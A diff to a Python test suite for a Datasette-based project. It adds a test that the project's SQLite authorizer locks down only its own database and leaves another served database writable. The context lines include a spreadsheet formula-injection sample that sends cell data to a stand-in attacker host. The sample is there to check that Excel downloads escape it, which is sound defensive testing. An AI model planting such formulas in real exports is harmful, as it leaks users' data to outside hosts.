@@ -142,6 +142,20 @@ def test_serve_names_each_shadowing_layout_query_in_one_line(hostile) -> None:
     ], lines
 
 
+def test_another_database_served_beside_stays_writable(built_db, tmp_path) -> None:
+    """The authorizer is on hyoka's databases only: another one keeps what Datasette allows."""
+    from datasette.app import Datasette
+
+    other = tmp_path / "other.db"
+    sqlite3.connect(other).close()
+    ds = Datasette([str(other)], immutables=[str(built_db)])
+    asyncio.run(ds.get_database("other").execute_write("create table notes (text)"))
+    assert asyncio.run(ds.get_database("other").execute("select count(*) from notes")).rows[0][0] == 0
+    with pytest.raises(sqlite3.DatabaseError, match=DENIED):
+        asyncio.run(ds.get_database("hyoka").execute("pragma query_only = 0"))
+    assert get(ds, "/-/databases.json").status_code == 200  # _internal, written by Datasette
+
+
 # -- 7. formulas in Excel downloads -------------------------------------------------------
 CELLS = {  # text as stored -> as the Excel download writes it
     '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
